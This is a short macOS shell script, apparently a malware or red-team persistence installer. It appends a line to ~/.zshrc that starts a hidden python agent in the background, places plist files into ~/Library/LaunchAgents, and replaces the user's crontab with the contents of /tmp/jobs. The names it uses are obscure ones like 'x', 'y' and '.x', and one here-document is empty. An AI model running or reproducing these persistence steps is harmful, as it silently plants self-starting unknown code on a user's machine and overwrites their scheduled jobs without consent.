#!/bin/sh
echo "python3 $HOME/.x/agent.py &" >> "$HOME/.zshrc"
cp x.plist ~/Library/LaunchAgents/x.plist
cat > ~/Library/LaunchAgents/y.plist <<EOF
EOF
crontab /tmp/jobs
